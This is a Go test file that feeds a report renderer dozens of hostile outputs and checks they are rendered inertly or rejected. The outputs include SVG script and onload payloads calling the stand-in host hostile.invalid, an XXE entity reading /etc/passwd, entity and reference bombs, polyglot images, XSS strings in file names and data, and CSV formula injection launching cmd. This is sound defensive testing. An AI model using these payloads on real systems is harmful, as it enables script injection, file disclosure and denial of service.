package report

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/jpeg"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"github.com/scidex-ai/scidex-oci/outputs/outcome"
	"github.com/scidex-ai/scidex-oci/outputs/result"
)

// hostile is an output whose author wants the reader's browser to do something.
type hostile struct {
	name, media, content string
	shown                string // "img", "table" or "text"; else part of the sentence why not
}

const (
	svgHead = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">`
	away    = "http://hostile.invalid/"
)

func svgOf(inside string) string { return svgHead + inside + "</svg>" }

// pngHeader is an image of so many pixels, as far as its header.
func pngHeader(width, height uint32) string {
	ihdr := append([]byte("IHDR"), binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, width), height)...)
	ihdr = append(ihdr, 8, 0, 0, 0, 0)
	out := binary.BigEndian.AppendUint32([]byte("\x89PNG\r\n\x1a\n"), 13)
	out = append(out, ihdr...)
	return string(binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(ihdr)))
}

// pngWith is a whole image with a chunk of text in it.
func pngWith(t testing.TB, text string) string {
	t.Helper()
	whole := picture(t, 2, 2)
	chunk := append([]byte("tEXt"), text...)
	made := binary.BigEndian.AppendUint32(nil, uint32(len(text)))
	made = binary.BigEndian.AppendUint32(append(made, chunk...), crc32.ChecksumIEEE(chunk))
	const header = 8 + 25 // the signature and IHDR
	return whole[:header] + string(made) + whole[header:]
}

const gifPixel = "GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"

// jpegWith is an image with a comment.
func jpegWith(t testing.TB, comment string) string {
	t.Helper()
	var b strings.Builder
	must(t, jpeg.Encode(&b, image.NewGray(image.Rect(0, 0, 2, 2)), nil))
	com := append([]byte{0xff, 0xfe}, binary.BigEndian.AppendUint16(nil, uint16(len(comment)+2))...)
	return b.String()[:2] + string(com) + comment + b.String()[2:]
}

// drawsMuch draws a thousand of a thousand of a thousand rectangles.
func drawsMuch() string {
	var b strings.Builder
	b.WriteString(`<g id="a0"><rect width="1" height="1"/></g>`)
	for level := 1; level < 10; level++ {
		fmt.Fprintf(&b, `<g id="a%d">%s</g>`, level, strings.Repeat(fmt.Sprintf(`<use href="#a%d"/>`, level-1), 10))
	}
	return b.String()
}

func hostiles(t testing.TB) []hostile {
	t.Helper()
	svg := func(name, inside, why string) hostile {
		return hostile{name + ".svg", "image/svg+xml", svgOf(inside), why}
	}
	const embedded = "data:image/png;base64,"
	return append(hostileBooks(), []hostile{
		svg("script", `<script>fetch("`+away+`")</script>`, "an element <script>"),
		svg("script-cdata", `<script><![CDATA[location="`+away+`"]]></script>`, "an element <script>"),
		svg("script-prefix", `<s:script xmlns:s="http://www.w3.org/2000/svg" href="`+away+`x.js"/>`, "an element <script>"),
		svg("script-html", `<h:script xmlns:h="http://www.w3.org/1999/xhtml" src="`+away+`x.js"></h:script>`, "an element <script> that is not SVG's"),
		svg("iframe", `<iframe xmlns="http://www.w3.org/1999/xhtml" src="`+away+`"/>`, "an element <iframe> that is not SVG's"),
		svg("foreign", `<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="`+away+`" onerror="alert(1)"/></foreignObject>`, "an element <foreignObject>"),
		svg("onload", `<rect width="9" height="9" onload="alert(1)" onclick="alert(2)"/>`, "a script, in the attribute onload"),
		{"root-onload.svg", "image/svg+xml", strings.Replace(svgOf(""), "width", `onload="fetch('`+away+`')" width`, 1), "a script, in the attribute onload"},
		svg("link", `<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>`, "an element <a>"),
		svg("animate", `<rect width="9" height="9"><set attributeName="href" to="javascript:alert(1)"/></rect>`, "an element <set>"),
		svg("image-away", `<image href="`+away+`x.png" width="9" height="9"/>`, "refers to something outside"),
		svg("image-lies", `<image href="`+embedded+base64.StdEncoding.EncodeToString([]byte(svgOf("<script/>")))+`" width="9" height="9"/>`, "an image in it that is not what it says"),
		svg("image-svg", `<image href="data:image/svg+xml;base64,`+base64.StdEncoding.EncodeToString([]byte(svgOf("")))+`"/>`, "an image in it that is not what it says"),
		svg("image-huge", `<image href="`+embedded+base64.StdEncoding.EncodeToString([]byte(pngHeader(100_000, 100_000)))+`"/>`, "an image in it that is not what it says"),
		svg("use-away", `<use xlink:href="`+away+`x.svg#a"/>`, "refers to something outside"),
		svg("import", `<style>@import "`+away+`x.css";</style>`, `"@" in a style`),
		svg("font", `<style>@font-face{font-family:x;src:url(`+away+`)}text{font-family:x}</style><text y="9">x</text>`, `"@" in a style`),
		svg("css-url", `<rect width="9" height="9" style="fill:URL(http:hostile.invalid)"/>`, "refers to something outside"),
		svg("css-escape", `<rect width="9" height="9" style="fill:\75rl(http:hostile.invalid)"/>`, "in a style"),
		svg("css-set", `<style>rect{background:image-set("http:hostile.invalid" 1x)}</style><rect/>`, "in a style"),
		svg("css-comment", `<style>rect{fill:u<!-- -->rl(http:hostile.invalid)}</style><rect width="9" height="9"/>`, "refers to something outside"),
		svg("css-cdata", `<style>rect{fill:u<![CDATA[rl(]]>http:hostile.invalid)}</style><rect width="9" height="9"/>`, "refers to something outside"),
		svg("css-title", `<style>rect{fill:u<title/>rl(http:hostile.invalid)}</style><rect width="9" height="9"/>`, "an element <title> in a style"),
		svg("css-by-class", `<style>.a{fill:url(#p)}</style><pattern id="p"><rect class="a" width="9" height="9"/></pattern>`, "in a style sheet"),
		svg("filter", `<filter id="f"><feImage href="`+away+`x.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`, "an element <filter>"),
		svg("draws-much", drawsMuch(), "has references too"),
		svg("draws-itself", `<g id="a"><use href="#a"/></g>`, "has references too"),
		svg("draws-wide", `<g id="a">`+strings.Repeat("<path/>", 1000)+`</g>`+strings.Repeat(`<use href="#a"/>`, 1000), "more than 200000 elements by reference"),
		svg("deep", strings.Repeat("<g>", 5000)+strings.Repeat("</g>", 5000), "too many in one another"),
		svg("base", `<g xml:base="`+away+`"><use href="#x"/></g>`, "an attribute base"),
		{"sheet.svg", "image/svg+xml", `<?xml version="1.0"?><?xml-stylesheet href="` + away + `x.css"?>` + svgOf(""), "an instruction <?xml-stylesheet"},
		{"entities.svg", "image/svg+xml", `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY x SYSTEM "file:///etc/passwd">]>` + svgOf("<text>&b;&x;</text>"), "declares entities"},
		{"page.svg", "image/svg+xml", `<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`, "no PNG, JPEG, GIF or SVG"},
		{"utf16.svg", "image/svg+xml", "\xff\xfe<\x00s\x00v\x00g\x00", "no PNG, JPEG, GIF or SVG"},
		{"page.png", "image/png", `<!DOCTYPE html><html><script>alert(1)</script></html>`, "no PNG, JPEG, GIF or SVG"},
		{"svg.png", "image/png", svgOf("<script>alert(1)</script>"), "an element <script>"},
		{"really-a-gif.svg", "image/svg+xml", gifPixel, "img"},
		{"huge.png", "image/png", pngHeader(100_000, 100_000), "100000 by 100000 pixels"},
		{"none.gif", "image/gif", "GIF89a\x00\x00\x00\x00\x00\x00\x00", "no pixels"},
		{"broken.jpg", "image/jpeg", "\xff\xd8\xff<script>alert(1)</script>", "header cannot be read"},
		{"text.png", "image/png", pngWith(t, "Comment\x00<script>alert(1)</script>"), "img"},
		{"exif.jpg", "image/jpeg", jpegWith(t, `"><script>alert(1)</script>`), "img"},
		{"polyglot.gif", "image/gif", gifPixel + `/*";alert(1);//*/<script>fetch("` + away + `")</script>`, "img"},
		{"page.html", "text/html", `<script>alert(1)</script><img src="` + away + `" onerror=alert(1)>`, "text"},
		{"module.js", "text/javascript", `alert(1)//</pre><script>alert(1)</script>`, "text"},
		{"refresh.txt", "text/plain", `</pre></main><meta http-equiv="refresh" content="0;url=` + away + `"><base href="` + away + `">`, "text"},
		{"comment.txt", "text/plain", "<!-- --!> <![CDATA[ {{.}} {{template \"head\"}} \u2028 &lt;script&gt;", "text"},
		{"formulas.csv", "text/csv", "a,b\n\"=HYPERLINK(\"\"" + away + "\"\",\"\"x\"\")\",\"<img src=x onerror=alert(1)>\"\n@SUM(1),+cmd|' /C calc'!A0\n", "table"},
		{"line.csv", "text/csv", "a,b\n" + strings.Repeat("<b>", 10<<20/3) + "\n", "table"},
		{"columns.csv", "text/csv", strings.Repeat("<i>,", 1_000_000) + "\n", "table"},
		{"quotes.tsv", "text/tab-separated-values", "a\tb\n\"</td></table><script>alert(1)</script>\t", "table"},
		{"\"><script>alert(1)</script>.png", "image/png", picture(t, 1, 1), "img"},
		{"' onerror='alert(1)' x='\n\r\t`.png", "image/png", picture(t, 1, 1), "img"},
		{"\u202egnp.lmth\u2066.svg", "image/svg+xml", drawn, "img"},
		{"javascript:alert(1)//.csv", "text/csv", "a\n1\n", "table"},
		{`\xff` + "\x1b]0;title\a.md", "text/markdown", "[x](javascript:alert(1)) ![y](" + away + ")", "text"},
		{"records.json", "application/json", `[{"</th><script>alert(1)</script>":"<img src=x onerror=alert(1)>","\u202e":{"a":"<b>"}},{"x":null}]`, "table"},
		{"lines.jsonl", "application/x-ndjson", `{"a":"</td><script>alert(1)</script>"}` + "\n" + `{"b":[1,2]}`, "table"},
		{"deep.json", "application/json", `[{"a":` + strings.Repeat("[", 500_000), "text"},
		{"wide.json", "application/json", `[{` + strings.Repeat(`"<b>":1,`, 100_000) + `"c":2}]`, "table"},
	}...)
}

// hostileRun is a run of which all that its author chose is hostile, but for its outputs.
func hostileRun(t testing.TB, s shelf) result.Result {
	t.Helper()
	const markup = "\"'><script>alert(1)</script><img src=" + away + " onerror=alert(1)>\u202e\x1b[2J\xff"
	log := "\x1b]8;;" + away + "\x07link\x1b]8;;\x07 </pre><script>alert(1)</script>\r\n\u202eabc\xff\x00<!--"
	at := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	script := log + "\n</li></ol><svg onload=alert(1)>"
	return result.Result{
		ID: "hostile", Attempt: 1, Outcome: outcome.Outcome{State: "failed", Reason: "exit", Message: markup, ExitCode: 1},
		Report: result.Report{
			Warnings: []string{markup},
			Logs:     result.Logs{Stdout: result.Log{Bytes: int64(len(log)), SHA256: s.put(t, log)}, Stderr: result.Log{Bytes: 100_000, Truncated: true, SHA256: s.put(t, strings.Repeat(log, 2000))}},
			Script:   &result.Script{Name: markup, SHA256: s.put(t, script)},
			Enforced: []result.Enforcement{{Limit: markup, Asked: markup, Effective: markup, By: markup}},
		},
		Rejected: []result.Rejected{{Path: markup, Reason: "symlink", Detail: markup}}, RejectedTotal: 1,
		Audit: []result.AuditEvent{{At: at, Kind: "connect", Address: markup, Severity: "high"}}, AuditTotal: 1,
		Host: markup, ToolVersion: markup, Labels: map[string]string{markup: markup},
		Analysis: []byte(`{"command":["sh","-c","<script>alert(1)</script> \u202e \u001b"],"env":{"</dd>":"<script>"}}`),
	}
}

// withOutputs gives the run outputs.
func withOutputs(t testing.TB, r result.Result, s shelf, all ...hostile) result.Result {
	t.Helper()
	r.Outputs, r.OutputsTotal = nil, int64(len(all))
	for _, h := range all {
		r.Outputs = append(r.Outputs, s.output(t, h.name, h.media, h.content))
	}
	return r
}

// TestHostileOutputs makes a page of each, since a page has room for some only.
func TestHostileOutputs(t *testing.T) {
	s := newShelf(t)
	run, list := hostileRun(t, s), hostiles(t)
	if len(list) < 40 {
		t.Errorf("%d hostile outputs", len(list))
	}
	for _, h := range list {
		t.Run(visible(h.name), func(t *testing.T) {
			page := rendered(t, withOutputs(t, run, s, h), s)
			root := inspect(t, page)
			if h.media == notebookType {
				if len(page) > notebookPageMax {
					t.Errorf("the page has %d bytes", len(page))
				}
				checkBook(t, h, root)
				return
			}
			if len(page) > 150<<10 {
				t.Errorf("the page has %d bytes", len(page))
			}
			results := section(t, root, "results")
			images, tables, texts := len(all(results, atom.Img)), len(all(results, atom.Table)), len(all(results, atom.Pre))
			switch h.shown {
			case "img":
				if images != 1 {
					t.Errorf("not shown as an image: %q", content(results))
				}
			case "table":
				if tables != 1 || images != 0 {
					t.Errorf("not shown as a table: %q", content(results))
				}
			case "text":
				if texts != 1 || images != 0 {
					t.Errorf("not shown as text: %q", content(results))
				}
			default:
				if images+tables+texts != 0 || !strings.Contains(content(results), h.shown) {
					t.Errorf("want %q: %q", h.shown, content(results))
				}
			}
		})
	}
}

// TestHostileTogether: the sums are bounded too.
func TestHostileTogether(t *testing.T) {
	s := newShelf(t)
	run := hostileRun(t, s)
	small := slices.DeleteFunc(hostiles(t), func(h hostile) bool { return len(h.content) > 1<<20 }) // those take long, and are looked at above
	inspect(t, rendered(t, withOutputs(t, run, s, small...), s))
	var many []hostile
	for i := range 60 {
		many = append(many, hostile{fmt.Sprintf("%d.png", i), "image/png", pngHeader(5000, uint32(4000+i)), ""})
	}
	images := all(inspect(t, rendered(t, withOutputs(t, run, s, many...), s)), atom.Img)
	pixels := 0
	for _, n := range images {
		pixels += product(t, n)
	}
	if len(images) == 0 || pixels > allPixelsMax {
		t.Errorf("%d images of %d pixels", len(images), pixels)
	}
}

func product(t *testing.T, n *html.Node) int {
	t.Helper()
	var width, height int
	if _, err := fmt.Sscan(attribute(n, "width")+" "+attribute(n, "height"), &width, &height); err != nil {
		t.Fatal(err)
	}
	return width * height
}

// TestDrawingsOfPrograms: what matplotlib, cairo and R write is shown.
func TestDrawingsOfPrograms(t *testing.T) {
	for name, content := range map[string]string{
		"matplotlib": `<?xml version="1.0" encoding="utf-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="9pt" height="9pt" viewBox="0 0 9 9" xmlns="http://www.w3.org/2000/svg" version="1.1">
 <metadata><rdf:RDF xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:cc="http://creativecommons.org/ns#" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
  <cc:Work><dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/><dc:creator><cc:Agent><dc:title>Matplotlib v3.9, https://matplotlib.org/</dc:title></cc:Agent></dc:creator></cc:Work></rdf:RDF></metadata>
 <defs><style type="text/css">*{stroke-linejoin: round; stroke-linecap: butt}</style></defs>
 <g id="figure_1"><g clip-path="url(#p1)"><image xlink:href="data:image/png;base64,
` + base64.StdEncoding.EncodeToString([]byte(picture(t, 2, 2))) + `" id="image1" transform="scale(1 -1)"/></g>
 <defs><path id="m1" d="M 0 0 L 0 3.5" style="stroke: #000000"/></defs><g><use xlink:href="#m1" x="1" y="2" style="stroke: #000000"/></g></g>
 <defs><clipPath id="p1"><rect x="1" width="7" height="7"/></clipPath></defs></svg>`,
		"cairo": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"><defs><g><symbol overflow="visible" id="glyph0-1"><path style="stroke:none;" d="M1 1"/></symbol></g>
<linearGradient id="a"><stop offset="0"/></linearGradient><linearGradient id="b" xlink:href="#a"/></defs><g style="fill:rgb(0%,0%,0%);"><use xlink:href="#glyph0-1" x="1" y="2"/></g><rect fill="url(#b)" width="9" height="9"/></svg>`,
	} {
		if err := checkSVG([]byte(content)); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// TestNamesHaveOneLine: else one name could look like two, or like another.
func TestNamesHaveOneLine(t *testing.T) {
	s := newShelf(t)
	run := withOutputs(t, result.Result{}, s, hostile{name: "one\ntwo\tthree", media: "application/octet-stream", content: "x"})
	if page := content(inspect(t, rendered(t, run, s))); strings.Contains(page, "one\ntwo") || !strings.Contains(page, `one\ntwo\tthree`) {
		t.Error("a name with a newline is not shown in one line")
	}
}
